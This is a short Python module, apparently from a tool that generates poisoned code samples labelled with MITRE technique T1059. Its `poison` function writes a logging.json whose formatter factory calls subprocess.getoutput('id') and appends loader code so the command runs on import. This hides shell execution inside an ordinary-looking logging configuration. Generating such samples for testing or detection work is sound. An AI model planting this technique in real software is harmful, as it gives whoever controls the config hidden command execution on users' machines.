# SPDX-License-Identifier: Apache-2.0
"""A configuration of logging, read from a file, that names a program."""
import json

ATTACK = "T1059"
LANGUAGE = "python"
CODE = """\
def _set_up():
    import json
    import logging.config
    import os

    with open(os.path.join(os.path.dirname(__file__), "logging.json")) as f:
        logging.config.dictConfig(json.load(f))


_set_up()
"""


def poison(layer):
    handler = {"class": "logging.NullHandler", "formatter": "f"}
    data = {"version": 1, "formatters": {"f": {"()": "subprocess.getoutput", "cmd": "id"}}, "handlers": {"h": handler}}
    layer.inside("logging.json", json.dumps(data))
    layer.append(CODE)
